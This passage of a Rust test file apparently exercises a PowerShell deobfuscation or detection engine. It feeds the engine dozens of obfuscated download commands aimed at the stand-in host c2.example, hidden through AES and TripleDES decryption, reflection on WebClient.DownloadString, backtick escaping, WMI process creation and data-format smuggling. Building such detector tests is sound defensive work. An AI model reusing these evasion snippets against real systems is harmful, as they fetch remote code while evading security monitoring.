            "$a=New-Object System.Security.Cryptography.TripleDESCryptoServiceProvider; $a.Key=[byte[]](0..23); $a.IV=[byte[]](0..7); $b=[Convert]::FromBase64String('+R/Kf0b+hl1OcdtNPd9KQo23g2sMapei'); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
            A,
        ),
        (
            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream(,$b); $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),[System.Security.Cryptography.CryptoStreamMode]::Read); iwr (New-Object IO.StreamReader($c)).ReadToEnd()",
            A,
        ),
        (
            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream; $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),'Write'); $c.Write($b,0,$b.Length); $c.FlushFinalBlock(); $p=$m.ToArray(); iwr ([Text.Encoding]::UTF8.GetString($p))",
            A,
        ),
        (
            "$h=[System.Security.Cryptography.MD5]::Create().ComputeHash([Text.Encoding]::UTF8.GetBytes('abc')); iwr ([BitConverter]::ToString($h))",
            "download 90-01-50-98-3C-D2-4F-B0-D6-96-3F-7D-28-E1-7F-72",
        ),
        (
            "$h=(New-Object System.Security.Cryptography.SHA256Managed).ComputeHash([byte[]](97,98,99)); iwr $h[0]",
            "download 186",
        ),
        (
            "$a=[System.Security.Cryptography.Aes]::Create(); $a.Padding='None'; $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikP5CGrlflIs8BLspxbECiAA='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,32); iwr ([Text.Encoding]::UTF8.GetString($p))",
            "download http://c2.example/aaaaaaaaaaaaaa",
        ),
        ("iwr ([uri]'http://c2.example/a').Host", "download c2.example"),
        ("iwr ([version]'3.4.5').Minor", "download 4"),
    ]);
    // A key that is made anew, a padding that is wrong, a mode that is not known: nothing is claimed.
    for script in [
        "iwr ([uri]'http://127.1/a').Host",
        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $a.KeySize=128; $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Key=[byte[]](0..15); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
        "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](1..16),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Mode='CFB'; $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
        "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream; $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),'Write'); $c.Write($b,0,$b.Length); $p=$m.ToArray(); iwr \"http://$p\"",
    ] {
        let acts = acts(script);
        let known = acts
            .iter()
            .any(|act| act.starts_with("download") && !act.contains('\u{27e8}'));
        assert!(!known, "{script}\n   {acts:?}");
    }
}

#[test]
fn later_versions_and_small_classes() {
    check(&[
        ("iwr ('http://c2.example/' + ('a'..'c')[0])", A),
        ("iwr ('http://c2.example/' + ('c'..'a')[2])", A),
        ("iwr ($true ? 'http://c2.example/a' : 'b')", A),
        ("$x = 2 -gt 3 ? 'b' : 'http://c2.example/a'; iwr $x", A),
        (
            "$q=New-Object System.Collections.Queue; $q.Enqueue('http://c2.example/a'); $q.Enqueue('b'); iwr $q.Dequeue()",
            A,
        ),
        (
            "$q=New-Object System.Collections.Stack; $q.Push('b'); $q.Push('http://c2.example/a'); iwr $q.Pop()",
            A,
        ),
        ("iwr ([uri]'http://c2.example/a').AbsoluteUri", A),
    ]);
}

/// What is outside the known part stays an unknown expression, or is not told at all: nothing else may be claimed.
#[test]
fn the_rest_stays_unknown() {
    let cases: &[(&str, &str)] = &[
        ("$d = data { 'http://c2.example/a' }; iwr $d", A),
        (
            "using namespace System.Net\n(New-Object WebClient).DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "using namespace System.Text; iwr ([Encoding]::ASCII.GetString(104,116,116,112)+'://c2.example/a')",
            A,
        ),
        (
            "class C { [string]$u = 'http://c2.example/a'; [void] Go() { iwr $this.u } }; [C]::new().Go()",
            A,
        ),
        (
            "class C { static [string] U() { return 'http://c2.example/a' } }; iwr ([C]::U())",
            A,
        ),
        (
            "class C { [string]$u; C([string]$h) { $this.u = \"http://$h/a\" } }; $c = [C]::new('c2.example'); iwr $c.u",
            A,
        ),
        (
            "enum E { X; Y = 96 }; iwr ('http://c2.example/' + [char]([int][E]::Y + 1))",
            A,
        ),
        (
            "$o = New-Object psobject; $o | Add-Member NoteProperty u 'http://c2.example/a'; iwr $o.u",
            A,
        ),
        ("iwr ('http://c2.example/' + ('a'..'c')[0])", A),
        ("iwr ($true ? 'http://c2.example/a' : 'b')", A),
        (
            "iwmi win32_process create 'powershell -c iwr http://c2.example/a'",
            A,
        ),
        (
            "iwr (([regex]'x').Replace('xttp://c2.examplx/a','h',1) -replace 'examplx','example')",
            A,
        ),
        (
            "$q=New-Object System.Collections.Queue; $q.Enqueue('http://c2.example/a'); iwr $q.Dequeue()",
            A,
        ),
        (
            "$q=New-Object System.Collections.Stack; $q.Push('b'); $q.Push('http://c2.example/a'); iwr $q.Pop()",
            A,
        ),
        (
            "$m=New-Object IO.MemoryStream(,[byte[]](104,116,116,112)); $r=New-Object IO.BinaryReader($m); iwr ((-join ($r.ReadBytes(4) | % {[char]$_})) + '://c2.example/a')",
            A,
        ),
        ("iwr ([xml]'<a><b>http://c2.example/a</b></a>').a.b", A),
        ("iwr ([xml]'<a b=\"http://c2.example/a\"/>').a.b", A),
        (
            "iwr ('{\"u\":\"http:\\/\\/c2.example\\/a\"}' | ConvertFrom-Json).u",
            A,
        ),
        (
            "iwr ('{\"u\":[\"x\",\"http://c2.example/a\"]}' | ConvertFrom-Json).u[1]",
            A,
        ),
        (
            "$c = \"u,v`nhttp://c2.example/a,2\" | ConvertFrom-Csv; iwr $c.u",
            A,
        ),
        ("$c = ConvertFrom-StringData 'u=http://c2.example/a'; iwr $c.u", A),
        (
            "iwr ([guid]'6e616c70-0000-0000-0000-000000000000').ToByteArray()[0]",
            "download 112",
        ),
        (
            "iwr (('b','a','b' | group | ? { $_.Count -eq 1 }).Name)",
            "download a",
        ),
        (
            "iwr ('http://c2.example/' + (1..10 | measure -sum).Sum)",
            "download http://c2.example/55",
        ),
        ("iwr ((1,1,2 | select -Unique) -join '')", "download 12"),
        ("iwr ([datetime]'2020-01-02').Year", "download 2020"),
        ("iwr ([version]'3.4.5').Minor", "download 4"),
        (
            "iwr ([ipaddress]'192.0.2.1').IPAddressToString",
            "download 192.0.2.1",
        ),
        ("iwr ([uri]'http://c2.example/a').Host", "download c2.example"),
        ("iwr ([uri]'http://c2.example/a').AbsoluteUri", A),
        (
            "iwr ([Net.IPAddress]::Parse('192.0.2.1').ToString())",
            "download 192.0.2.1",
        ),
        (
            "iwr ([Management.Automation.PSCredential].Name)",
            "download PSCredential",
        ),
        ("$t=[tuple]::Create('x','http://c2.example/a'); iwr $t.Item2", A),
        (
            "(New-Object Net.WebClient).\"`D`o`wnloadString\".Invoke('http://c2.example/a')",
            A,
        ),
        (
            "(New-Object Net.WebClient).PSObject.Methods['DownloadString'].Invoke('http://c2.example/a')",
            A,
        ),
        (
            "[Net.WebClient].GetMethod('DownloadString',[type[]]@([string])).Invoke((New-Object Net.WebClient),@('http://c2.example/a'))",
            A,
        ),
        (
            "$l=New-Object Net.HttpListener; $l.Prefixes.Add('http://+:8080/'); $l.Start()",
            "listen http://+:8080/",
        ),
    ];
    for (script, wanted) in cases {
        let told = wanted.split(' ').next().unwrap();
        let acts = acts(script).into_iter();
        let claimed: Vec<String> = acts
            .filter(|act| act.starts_with(told) && !act.contains('\u{27e8}') && act != wanted)
            .collect();
        assert!(claimed.is_empty(), "{script}\n   {claimed:?}");
    }
}
